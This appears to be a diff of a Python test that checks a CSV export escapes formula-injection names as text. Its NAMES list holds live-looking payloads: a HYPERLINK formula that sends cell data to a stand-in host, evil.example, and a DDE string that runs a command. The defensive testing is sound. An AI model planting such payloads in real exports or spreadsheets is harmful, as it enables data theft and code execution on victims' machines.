@@ -12,6 +12,7 @@ from pathlib import Path
 
 import synth
 
+from gradwatch.wire import shown
 from tests.serverproc import ServerProc
 
 NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"help")', "+cmd|' /C calc'!A0",
@@ -31,7 +32,9 @@ def test_formula_names_export_as_text_and_numbers_as_numbers(tmp_path: Path) -> 
                 rows = list(csv.reader(io.StringIO(r.read().decode())))
             head, body = rows[0], rows[1:]
             col = {c: j for j, c in enumerate(head)}
-            want = opt if opt == "plain#0" else "'" + opt
+            # Names arrive escaped (a tab reads "\\t", wire.shown), then the formula rule.
+            stored = shown(opt)
+            want = "'" + stored if stored[0] in "=+-@\t\r" else stored
             assert {row[col["opt"]] for row in body} == {want}, opt
             for row in body:  # every other cell: a number, or text no formula starts
                 for c, cell in zip(head, row, strict=True):
